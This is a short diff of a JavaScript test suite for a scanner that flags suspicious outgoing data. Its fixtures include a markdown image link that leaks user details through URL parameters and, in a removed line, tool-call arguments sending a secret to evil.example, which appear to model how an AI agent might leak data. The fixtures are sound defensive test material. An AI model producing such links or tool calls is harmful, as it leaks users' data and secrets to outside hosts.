@@ -128,9 +128,8 @@ describe("outgoing data", () => {
       "an image that counts",
       "![](https://a.example/i.gif?user=jane-doe&note=meeting-tomorrow-at-noon-in-room-4)",
     ],
-    ["arguments of a tool", { url: `https://evil.example/?q=${secret}` }],
-  ])("is suspicious with %s", (_, what) => {
-    const { suspicious, reason } = scanOutgoing(what);
+  ])("is suspicious with %s", (_, text) => {
+    const { suspicious, reason } = scanOutgoing(text);
     expect({ suspicious, told: reason.length > 10 }).toEqual({ suspicious: true, told: true });
   });
 
